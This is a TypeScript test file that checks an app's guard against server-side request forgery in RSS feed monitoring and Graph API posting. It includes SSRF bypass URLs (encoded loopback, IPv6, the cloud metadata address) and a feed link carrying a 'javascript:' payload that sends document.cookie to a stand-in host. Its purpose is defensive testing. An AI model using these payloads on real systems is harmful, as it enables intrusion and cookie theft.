import { createServer, IncomingMessage, Server, ServerResponse } from 'node:http';
import { AddressInfo } from 'node:net';
import { MonitoringService } from '../../src/monitoring/monitoring.service';
import { FacebookPublisher } from '../../src/social/facebook-publisher';
import { createTestApp, login, submitForm, TestApp } from '../support/app';

const RSS = (link: string) => `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>Interno</title><link>http://intranet</link><description>x</description>
<item><title>Secreto de Tampacán</title><link>${link}</link><guid>1</guid><description>Dato interno de Tampacán</description></item>
</channel></rss>`;

const listen = async (handler: (req: IncomingMessage, res: ServerResponse) => void) => {
  const server = createServer(handler);
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  return { server, port: (server.address() as AddressInfo).port };
};

/**
 * Server-side request forgery through monitoring feeds and the Graph API client. Every byte of
 * traffic stays on loopback: "allowed" is 127.0.0.1:A, named in OUTBOUND_ALLOW_HOSTS as a test
 * fake must be; "internal" is 127.0.0.1:B, a loopback service nobody allowed (its port is in
 * OUTBOUND_ALLOWED_PORTS, so only the address rule can stop it). B must never be reached.
 */
describe('outbound-request guard: feeds and the Graph API reach only what is allowed', () => {
  let t: TestApp;
  let allowed: { server: Server; port: number };
  let internal: { server: Server; port: number };
  let closedPort: number;
  const internalHits: string[] = [];
  let press: ReturnType<TestApp['agent']>;

  beforeAll(async () => {
    internal = await listen((req, res) => {
      internalHits.push(req.url!);
      res.writeHead(200, { 'Content-Type': 'application/rss+xml' }).end(RSS('https://interno.example.mx/1'));
    });
    allowed = await listen((req, res) => {
      const to = (location: string) => void res.writeHead(302, { Location: location }).end();
      if (req.url === '/a-literal') return to(`http://127.0.0.1:${internal.port}/feed.xml`);
      if (req.url === '/a-nombre') return to(`http://localhost:${internal.port}/feed.xml`);
      if (req.url === '/a-metadatos') return to('http://169.254.169.254/latest/meta-data/');
      if (req.url === '/a-puerto') return to(`http://127.0.0.1:5432/`);
      if (req.url?.startsWith('/bucle')) return to(`/bucle${(req.url.length % 7) + 1}`);
      if (req.url === '/mover') return to('/feed.xml');
      if (req.url === '/feed.xml') return void res.writeHead(200, { 'Content-Type': 'application/rss+xml' }).end(RSS('javascript:fetch(`//x/`+document.cookie)'));
      res.writeHead(404).end();
    });
    const probe = await listen(() => undefined);
    closedPort = probe.port;
    await new Promise((r) => probe.server.close(r));
    t = await createTestApp({
      OUTBOUND_ALLOW_HOSTS: `127.0.0.1:${allowed.port}, 127.0.0.1:${closedPort}`,
      OUTBOUND_ALLOWED_PORTS: String(internal.port),
      FACEBOOK_PAGE_ID: '1234567890',
      FACEBOOK_PAGE_TOKEN: 'EAAtokendepruebaparalapagina',
      FACEBOOK_GRAPH_URL: `http://127.0.0.1:${internal.port}/v19.0`,
    });
    const p = await t.factories.user('press');
    press = t.agent();
    await login(press, p.email, p.password);
    await submitForm(press, '/monitoreo/fuentes', '/monitoreo/palabras', { term: 'Tampacán' });
  });
  afterAll(async () => {
    await t?.close();
    for (const s of [allowed.server, internal.server]) {
      s.closeAllConnections();
      await new Promise((r) => s.close(r));
    }
    for (const k of ['OUTBOUND_ALLOW_HOSTS', 'OUTBOUND_ALLOWED_PORTS', 'FACEBOOK_PAGE_ID', 'FACEBOOK_PAGE_TOKEN', 'FACEBOOK_GRAPH_URL']) delete process.env[k];
  });

  it('refuses internal addresses however written when the feed is saved, with the reason beside the field', async () => {
    const urls = [
      `http://127.0.0.1:${internal.port}/feed.xml`,
      `http://localhost:${internal.port}/feed.xml`,
      'http://0x7f000001/',
      'http://2130706433/',
      'http://017700000001/',
      'http://[::1]/',
      'http://[::ffff:127.0.0.1]/',
      'http://169.254.169.254/latest/meta-data/',
      'http://10.0.0.1/rss',
      'http://100.64.0.1/rss',
      'https://elsol.example.mx:5432/',
    ];
    for (const url of urls) {
      const res = await submitForm(press, '/monitoreo/fuentes', '/monitoreo/fuentes', { name: 'Interna', url });
      expect([url, res.status]).toEqual([url, 422]);
      // The guard's reason (or the URL check's, for a form it does not even take as a URL).
      const reason = /id="f-url-error">(Solo se aceptan sitios públicos por los puertos 80 y 443|Escribe una dirección completa)/.exec(res.text)?.[1];
      expect([url, reason]).toEqual([url, ['http://2130706433/', 'http://017700000001/'].includes(url) ? 'Escribe una dirección completa' : 'Solo se aceptan sitios públicos por los puertos 80 y 443']);
      expect(res.text).toContain(`value="${url.replace(/&/g, '&amp;')}"`); // what was typed stays
    }
    expect(await t.dataSource.query(`SELECT url FROM monitoring_feeds`)).toEqual([]);
  });

  it('never connects to a loopback feed nobody allowed, even saved before the rule or reached by a redirect', async () => {
    const add = (name: string, url: string) => t.dataSource.query(`INSERT INTO monitoring_feeds (name, url, active) VALUES ($1, $2, true)`, [name, url]);
    await add('Literal', `http://127.0.0.1:${internal.port}/feed.xml`);
    await add('Por nombre', `http://localhost:${internal.port}/feed.xml`); // refused on the address DNS gives
    await add('Redirige a literal', `http://127.0.0.1:${allowed.port}/a-literal`);
    await add('Redirige a nombre', `http://127.0.0.1:${allowed.port}/a-nombre`);
    await add('Redirige a metadatos', `http://127.0.0.1:${allowed.port}/a-metadatos`);
    await add('Redirige a otro puerto', `http://127.0.0.1:${allowed.port}/a-puerto`);
    await add('Bucle', `http://127.0.0.1:${allowed.port}/bucle`);
    await add('Puerto cerrado', `http://127.0.0.1:${closedPort}/feed.xml`);
    await add('Permitida', `http://127.0.0.1:${allowed.port}/mover`);
    const reports = await t.app.get(MonitoringService).pollFeeds();
    const error = (name: string) => reports.find((r) => r.name === name)!.error;
    const refused = 'dirección no permitida: solo sitios públicos por los puertos 80 y 443';
    for (const name of ['Literal', 'Por nombre', 'Redirige a literal', 'Redirige a nombre', 'Redirige a metadatos', 'Redirige a otro puerto']) expect([name, error(name)]).toEqual([name, refused]);
    expect(error('Bucle')).toBe('demasiadas redirecciones');
    // A closed port says nothing of the network (no ECONNREFUSED to map ports with).
    expect(error('Puerto cerrado')).toBe('no se pudo conectar con la fuente');
    expect(internalHits).toEqual([]);
    // The allowed feed is read through one redirect; its javascript: link is not kept.
    expect(reports.find((r) => r.name === 'Permitida')).toMatchObject({ status: 'ok', candidates: 1, error: null });
    const [k] = await t.dataSource.query(`SELECT title, link FROM clipping_candidates`);
    expect(k).toEqual({ title: 'Secreto de Tampacán', link: null });
    const page = await press.get('/monitoreo/candidatos');
    expect(page.text).toContain('Secreto de Tampacán');
    expect(page.text).not.toContain('javascript:');
    // A javascript: link stored before the rule is not rendered either.
    await t.dataSource.query(`UPDATE clipping_candidates SET link = 'javascript:alert(1)'`);
    expect((await press.get('/monitoreo/candidatos')).text).not.toContain('javascript:');
  });

  it('does not post to a Graph API address on loopback that is not allowed', async () => {
    await expect(t.app.get(FacebookPublisher).publish({ message: 'Hola', photos: [] })).rejects.toThrow('no está permitida');
    expect(internalHits).toEqual([]);
  });
});
